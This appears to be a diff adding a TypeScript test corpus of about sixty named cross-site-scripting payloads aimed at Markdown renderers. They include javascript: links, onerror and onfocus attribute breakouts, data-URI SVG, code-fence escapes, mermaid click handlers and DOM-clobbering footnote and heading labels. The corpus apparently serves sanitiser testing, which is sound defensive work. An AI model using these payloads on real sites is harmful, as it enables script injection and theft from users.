@@ -1,0 +1,66 @@
+import { payloadsOf } from './payload.ts';
+
+const fence = '```';
+
+/** The constructs of Markdown that carry an address, an attribute or HTML. */
+export const markdownPayloads = payloadsOf('markdown', {
+  'link-angle-brackets': ({ call }) => `[Continue](<javascript:${call}>)`,
+  'link-title-double': ({ script }) => `[Continue](https://example.org '" autofocus onfocus=${script} x="')`,
+  'link-title-single': ({ script }) => `[Continue](https://example.org "' autofocus onfocus=${script} x='")`,
+  'link-title-tag': ({ script }) => `[Continue](https://example.org '"><img src=x onerror=${script}>')`,
+  'link-address-quote': ({ script }) => `[Continue](https://example.org/"autofocus/onfocus=${script}/x=")`,
+  'link-reference': ({ call }) => `[Continue][target]\n\n[target]: javascript:${call}`,
+  'link-reference-collapsed': ({ call }) => `[Continue][]\n\n[continue]: <javascript:${call}>`,
+  'link-reference-next-line': ({ call }) => `[Continue]\n\n[continue]:\njavascript:${call}\n"Title"`,
+  'link-reference-title': ({ script }) =>
+    `[Continue]\n\n[continue]: https://example.org '"><img src=x onerror=${script}>'`,
+  'link-reference-escaped': ({ call }) => `[a\\]b][t]\n\n[t]: javascript\\:${call}`,
+  'link-text-html': ({ script }) => `[<img src=x onerror=${script}>](https://example.org)`,
+  'link-text-image': ({ beacon }) => `[![Continue](${beacon})](https://example.org)`,
+  autolink: ({ call }) => `<javascript:${call}>`,
+  'autolink-data': ({ script }) => `<data:text/html,${script}>`,
+  'autolink-bare': ({ call }) => `javascript:${call}`,
+  'autolink-bare-quote': ({ script }) => `https://example.org/"onmouseover=${script}//`,
+  'image-remote': ({ beacon }) => `![Photo](${beacon})`,
+  'image-remote-title': ({ beacon }) => `![Photo](<${beacon}> "A photo")`,
+  'image-reference': ({ beacon }) => `![Photo][p]\n\n[p]: ${beacon}`,
+  'image-data-svg': ({ script }) => `![Photo](<data:image/svg+xml,<svg onload=${script}>>)`,
+  'image-alt-quote': ({ script }) => `![" onerror=${script} x="](x.png)`,
+  'image-alt-html': ({ script }) => `![<img src=x onerror=${script}>](x.png)`,
+  'image-title-quote': ({ script }) => `![Photo](x.png '" onerror=${script} x="')`,
+  'image-size': ({ script }) => `![Photo](x.png =9x9 onerror=${script}){onerror=${script}}`,
+  'fence-language-tag': ({ script }) => `${fence}"><img src=x onerror=${script}>\ncode\n${fence}`,
+  'fence-language-quote': ({ script }) => `~~~js" tabindex=0 autofocus onfocus=${script} x="\ncode\n~~~`,
+  'fence-body': ({ script }) => `${fence}html\n</code></pre><img src=x onerror=${script}>\n${fence}`,
+  'fence-unclosed': ({ script }) => `${fence}html\n<script>${script}</script>`,
+  'fence-diagram': ({ script, call }) =>
+    `${fence}mermaid\ngraph TD\nA["<img src=x onerror=${script}>"]\nclick A "javascript:${call}"\n${fence}`,
+  'fence-contrast': ({ script, call }) =>
+    `${fence}contrast\n[weak]\n<img src=x onerror=${script}>\n[weak output]\n<img src=x onerror=${script}>\n[good]\na\n[good output]\n[Continue](javascript:${call})\n[why]\n<script>${script}</script>\n${fence}`,
+  'code-span': ({ script }) => `\`</code><img src=x onerror=${script}>\``,
+  'indented-code': ({ script }) => `    </code></pre><script>${script}</script>`,
+  'highlighter-html': ({ script }) => `==<img src=x onerror=${script}>==`,
+  'highlighter-link': ({ call }) => `==[Continue](javascript:${call})==`,
+  'table-html': ({ script }) => `| a | b |\n| - | - |\n| <img src=x onerror=${script}> | c |`,
+  'table-link': ({ call }) => `| a | b |\n| :-: | - |\n| [Continue](javascript:${call}) | c |`,
+  'table-image': ({ beacon }) => `| a |\n| - |\n| ![](${beacon}) |`,
+  footnote: ({ script, call }) =>
+    `Text[^1].\n\n[^1]: <img src=x onerror=${script}> [Continue](javascript:${call})`,
+  'footnote-label': ({ script }) =>
+    `Text[^"><img/src="x"/onerror=${script}>].\n\n[^"><img/src="x"/onerror=${script}>]: Note`,
+  'footnote-clobber': () => 'Text[^__xss].\n\n[^__xss]: Note',
+  'heading-html': ({ script }) => `# <img src=x onerror=${script}>`,
+  'heading-attributes': ({ script }) => `# Title {#x onclick=${script} style="position:fixed"}`,
+  'heading-clobber': () => '# __xss',
+  'list-task': ({ script }) => `- [x] <input autofocus onfocus=${script}>`,
+  'quote-html': ({ script }) => `> > - <img src=x onerror=${script}>`,
+  directive: ({ script }) => `:::note{onclick=${script} style="position:fixed"}\nText\n:::`,
+  math: ({ call }) => `$\\href{javascript:${call}}{x}$`,
+  'html-comment': ({ script }) => `<!-- a\n\n--><img src=x onerror=${script}>`,
+  'html-cdata': ({ script }) => `<![CDATA[\n\n]]><img src=x onerror=${script}>`,
+  'html-entities': ({ script }) => `&lt;img src=x onerror=${script}&gt;`,
+  'html-entities-twice': ({ script }) => `&amp;lt;img src=x onerror=${script}&amp;gt;`,
+  'html-escaped': ({ script }) => `\\<img src=x onerror=${script}\\>`,
+  'html-then-link': ({ call }) => `<div>\n\n[Continue](javascript:${call})\n\n</div>`,
+  'front-matter': ({ script }) => `---\ntitle: <script>${script}</script>\n---\n\n<script>${script}</script>`,
+});
